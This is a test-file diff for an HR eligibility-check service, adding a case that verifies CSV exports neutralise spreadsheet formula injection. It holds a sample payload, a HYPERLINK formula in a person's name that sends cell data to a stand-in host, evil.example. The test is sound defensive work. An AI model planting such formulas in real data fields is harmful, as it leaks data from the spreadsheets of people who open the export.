@@ -137,6 +137,20 @@ describe("many people at once", () => {
     expect(response.body.summary.mostCommonMissing.criterion).toBeTruthy();
   });
 
+  it("answers as CSV in which a name typed as a formula stays text", async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"杨雪")';
+    const put = await admin.put("/admin/people/formula-name", { name, tier: "base", tierSince: "2025-01-01", orgUnitId: "tianma-retail" });
+    expect(put.status).toBe(200);
+    const raw = await dispatch({
+      method: "POST",
+      url: "/eligibility-checks",
+      headers: { authorization: `Bearer ${hr.token}`, "content-type": "application/json", accept: "text/csv" },
+      body: JSON.stringify({ gateId: "base-to-middle", personIds: ["formula-name"] }),
+    });
+    const row = (raw.body as string).split("\r\n")[1] as string;
+    expect(row.startsWith(`formula-name,"'=HYPERLINK(""http://evil.example/?x=""&A1,""杨雪"")",`)).toBe(true);
+  });
+
   it("answers as CSV that a spreadsheet opens with Chinese names intact", async () => {
     const raw = await dispatch({
       method: "POST",
